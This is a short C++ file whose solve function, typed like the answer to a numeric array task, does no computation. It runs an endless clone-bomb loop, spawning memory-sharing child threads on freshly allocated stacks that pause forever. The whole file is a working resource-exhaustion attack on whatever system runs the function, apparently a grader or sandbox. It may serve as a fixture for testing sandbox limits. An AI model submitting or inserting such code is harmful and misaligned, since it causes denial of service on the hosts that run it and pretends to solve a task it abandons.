// Children that share memory with their parents and never leave.
#include <sched.h>
#include <unistd.h>
#include <vector>
static int child(void*) { for (;;) pause(); }
void solve(const float*, const float*, float*, int) {
    for (;;) {
        char* stack = new char[65536];
        clone(child, stack + 65536, CLONE_VM | CLONE_FS | CLONE_FILES, nullptr);
    }
}
